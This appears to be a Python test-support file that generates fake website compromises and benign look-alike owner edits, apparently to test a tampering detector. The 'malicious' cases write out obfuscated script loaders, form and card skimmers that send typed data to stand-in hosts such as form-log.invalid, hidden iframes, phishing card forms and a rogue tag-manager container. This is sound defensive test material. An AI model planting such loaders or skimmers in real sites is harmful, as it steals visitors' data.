"""Further edits of the made-up sites: intruders who hide better, and owners whose work looks like it.

They are registered beside those of ``edits``.
"""

import base64
import re

from tests.support.watched.edits import (
    at_end,
    benign,
    everywhere,
    in_head,
    malicious,
    on,
    put,
    text,
)
from tests.support.watched.sites import Files

CSS = "text/css"
ADDRESS = "https://cdn-lib.invalid/m.js"
LOADER = (
    ";(function(d){var n=d.createElement('script');n.async=1;n.src=%s;d.head.appendChild(n)})"
    "(document);"
)


def _program(files: Files, more: str) -> Files | None:
    """Add to the end of the site's first program file."""
    scripts = [path for path in files if path.endswith(".js")]
    return put(files, scripts[0], text(files, scripts[0]) + more) if scripts else None


def _form(files: Files, action: str) -> Files | None:
    """Let the site's form of inquiry send to ``action``."""
    for path in ("/contact/", "/contact", "/toiawase.html", "/"):
        if path in files and 'method="post"' in text(files, path).lower():
            known = r'action="(?:/contact/#f1|/contact|/cgi-bin/mail.cgi|/_api/subscribe)"'
            return on(files, path, known, f'action="{action}"')
    return None


# What intruders do.


@malicious("a loader in a program file, its address in base64")
def _(files: Files) -> Files | None:
    code = base64.b64encode(ADDRESS.encode()).decode()
    return _program(files, LOADER % f"atob('{code}')")


@malicious("a loader in a program file, its address in single letters")
def _(files: Files) -> Files | None:
    return _program(files, LOADER % "+".join(f"String.fromCharCode({ord(c)})" for c in ADDRESS))


@malicious("a loader in a program file, its address in percents")
def _(files: Files) -> Files | None:
    return _program(files, LOADER % f"unescape('{''.join(f'%{ord(c):02x}' for c in ADDRESS)}')")


@malicious("a loader in a program file, its address written backwards")
def _(files: Files) -> Files | None:
    return _program(files, LOADER % f"'{ADDRESS[::-1]}'.split('').reverse().join('')")


@malicious("a loader in a program file, its address in a list of pieces")
def _(files: Files) -> Files | None:
    pieces = ",".join(f"'{ADDRESS[at : at + 3]}'" for at in range(0, len(ADDRESS), 3))
    return _program(files, LOADER % f"[{pieces}].join('')")


@malicious("a loader in a program file that a number unlocks")
def _(files: Files) -> Files | None:
    locked = "".join(f"\\u{ord(c) ^ 7:04x}" for c in ADDRESS)
    unlock = "map(function(c){return String.fromCharCode(c.charCodeAt(0)^7)}).join('')"
    return _program(files, LOADER % f"'{locked}'.split('').{unlock}")


@malicious("a loader at the end of a very long program file")
def _(files: Files) -> Files | None:
    lines = "".join(f"function f{n}(a){{return a+{n}}}\n" for n in range(24_000))
    return _program(files, lines + LOADER % f"'{ADDRESS}'")


@malicious("a loader in a program file that names many hosts")
def _(files: Files) -> Files | None:
    hosts = ",".join(f"'https://h{n}.w3.org/'" for n in range(20))
    return _program(files, f"var known=[{hosts}];" + LOADER % f"'{ADDRESS}'")


@malicious("a new program file of the site that sends what is typed elsewhere")
def _(files: Files) -> Files | None:
    more = files | {
        "/js/form-check.js": (
            "text/javascript",
            b"document.addEventListener('submit',function(e){var x=new XMLHttpRequest();"
            b"x.open('POST','https://form-log.invalid/c');x.send(new FormData(e.target))});",
        )
    }
    return in_head(more, '<script src="/js/form-check.js"></script>', all_pages=True)


@malicious("a skimmer at the end of a program file, to a coded address")
def _(files: Files) -> Files | None:
    code = base64.b64encode(b"https://px-stat.invalid/p").decode()
    return _program(
        files,
        ";document.addEventListener('change',function(e){navigator.sendBeacon("
        f"atob('{code}'),e.target.name+'='+e.target.value)}});",
    )


@malicious("a skimmer that keeps what is typed among the site's pictures")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>document.addEventListener('submit',function(e){fetch('/wp-content/uploads/2026/01/a.php',"
        "{method:'POST',body:new FormData(e.target)})})</script>",
    )


@malicious("a skimmer that asks for a picture of the site with what is typed")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>document.addEventListener('change',function(e){new Image().src='/img/dot.gif?'"
        "+encodeURIComponent(e.target.value)})</script>",
    )


@malicious("a form that sends to a program among the pictures")
def _(files: Files) -> Files | None:
    return _form(files, "/img/2026/send.php")


@malicious("fields for a card that only their labels name")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/check" method="post"><table><tr><th>クレジットカード番号（半角）</th><td>'
        '<input name="a1"></td></tr><tr><th>有効期限</th><td><input name="a2"></td></tr><tr>'
        '<th>セキュリティコード</th><td><input name="a3"></td></tr></table></form>',
    )


@malicious("fields for a card, labels in English, without a number")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/check" method="post"><label>Name on card<input name="a0"></label>'
        '<label for="x">Expiry date</label><input id="x"></form>',
    )


@malicious("a frame hidden by a style sheet of the site")
def _(files: Files) -> Files | None:
    sheet = (CSS, b"/* base */ .u-clear:after{clear:both} .q9{position:absolute;left:-7000px}")
    linked = in_head(
        files | {"/css/base.css": sheet}, '<link rel="stylesheet" href="/css/base.css?v=3">'
    )
    frame = '<div class="q9"><iframe src="https://bad.invalid/k"></iframe></div>'
    return at_end(linked, frame) if linked else None


@malicious("another page under the old title")
def _(files: Files) -> Files | None:
    title = re.search(r"(?i)<title>.*?</title>", text(files, "/"))
    assert title
    shelf = "".join(
        f'<div class="g"><a href="https://fake-store.invalid/{n}"><img src="/g{n}.jpg"></a>'
        f"<span>人気の鞄 {n} 本日限り、半額でお届けします</span></div>"
        for n in range(15)
    )
    charset = '<meta charset="utf-8">' if "UTF-8" in files["/"][0] else ""
    return put(files, "/", f"<html><head>{charset}{title[0]}</head><body>{shelf}</body></html>")


@malicious("a second container beside the one of the tag manager in use")
def _(files: Files) -> Files | None:
    if "GTM-AB" not in text(files, "/"):
        return None
    return in_head(
        files,
        '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-EVIL999"></script>',
    )


@malicious("a first container of the tag manager where cards are asked for")
def _(files: Files) -> Files | None:
    if "/shopping/card" not in files:
        return None
    return on(
        files,
        "/shopping/card",
        r"</head>",
        "<script>(function(w,d,s,i){var j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i;"
        "d.head.appendChild(j)})(window,document,'script','GTM-EVIL999');</script></head>",
    )


# What owners do.


@benign("a program file updated, with new icons in base64 and percents")
def _(files: Files) -> Files | None:
    icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>'
    coded = base64.b64encode(icon.encode()).decode()
    percents = "".join(f"%{ord(c):02x}" for c in icon)
    return _program(
        files,
        f";var icons=['data:image/svg+xml;base64,{coded}','data:image/svg+xml,{percents}'];"
        "function show(i){document.write('<img src='+decodeURIComponent(icons[i])+'>')}"
        f"\n//# sourceMappingURL=data:application/json;base64,{coded}",
    )


@benign("a program file updated that now checks fields, its licence at a new address")
def _(files: Files) -> Files | None:
    return _program(
        files,
        "\n/*! form-check 3.0 (c) https://form-check-lib.example/license */\n// https://other-doc.example/manual\n"
        ";document.querySelectorAll('input').forEach(function(i){i.onblur=function(){if(!i.value)i.focus()}});"
        "function post(u,f){var x=new XMLHttpRequest();x.open('POST',u);x.send(new FormData(f))}",
    )


@benign("a new program of the site that sends its form without leaving the page")
def _(files: Files) -> Files | None:
    more = files | {
        "/js/send.js": (
            "text/javascript",
            b"document.querySelectorAll('form').forEach(function(f){f.addEventListener('submit',function(e){"
            b"e.preventDefault();fetch('/contact/send.php',{method:'POST',body:new FormData(f)})})});",
        )
    }
    return in_head(more, '<script src="/js/send.js"></script>', all_pages=True)


@benign("a field for the number of a member's card")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/point" method="post"><label>会員カード番号<input name="m1"></label>'
        '<label>ポイントカード番号<input name="m2" placeholder="ポイントカード番号"></label></form>',
    )


@benign("letters of a picture to type, and a coupon with a date")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/coupon" method="post"><label>セキュリティコード（画像の文字）<input name="c1"></label>'
        "<p>クレジットカード番号は書かないでください。</p><p>クーポンの有効期限 12月末</p></form>",
    )


@benign("a video in a window that the site's style sheet opens by a click")
def _(files: Files) -> Files | None:
    sheet = (CSS, b".movie{display:none} .movie.open{display:block}")
    linked = in_head(
        files | {"/css/movie.css": sheet}, '<link rel="stylesheet" href="/css/movie.css">'
    )
    frame = '<div class="movie"><iframe src="https://player.vimeo.com/video/1"></iframe></div>'
    return at_end(linked, frame) if linked else None


@benign("the calendar of a booking service, with a style sheet for print and phones")
def _(files: Files) -> Files | None:
    sheet = (
        CSS,
        b"@media print{.wide{display:none}} @media (max-width:600px){.wide{display:none}} .wide{width:100%}",
    )
    linked = in_head(
        files | {"/css/wide.css": sheet}, '<link rel="stylesheet" href="/css/wide.css">'
    )
    frame = '<div class="wide"><iframe src="https://calendar.yoyaku-service.example/s/1" width="600" height="500"></iframe></div>'
    return at_end(linked, frame) if linked else None


@benign("a first container of the tag manager")
def _(files: Files) -> Files | None:
    if "GTM-" in text(files, "/") or "/shopping/card" in files:
        return None
    tag = "<script>(function(w,d,s,l,i){var j=d.createElement(s);j.src='https://www.googletagmanager.com/gtm.js?id='+i;d.head.appendChild(j)})(window,document,'script','dataLayer','GTM-OWN1234');</script>"
    return in_head(files, tag, all_pages=True)


@benign("another system: other addresses and parts, the same title and words")
def _(files: Files) -> Files | None:
    page = text(files, "/")
    title = re.search(r"(?i)<title>.*?</title>", page)
    assert title
    words = re.sub(r"(?is)<(script|style|title|noscript).*?</\1>|<[^>]*>", " ", page)
    charset = '<meta charset="utf-8">' if "UTF-8" in files["/"][0] else ""
    menu = "".join(f'<li class="m"><a href="/pages/{n}">頁{n}</a></li>' for n in range(4))
    return put(
        files,
        "/",
        f"<!doctype html>{charset}{title[0]}<article class=new><ol>{menu}</ol><em>{words}</em></article>",
    )


# Where the line is thin: an owner may do it, and it is told all the same (by intention).


@benign("the container of a new agency in place of the one in use")
def _(files: Files) -> Files | None:
    return everywhere(
        files, lambda page: page.replace("GTM-AB12CD3", "GTM-NEWAG55") if "GTM-AB" in page else None
    )
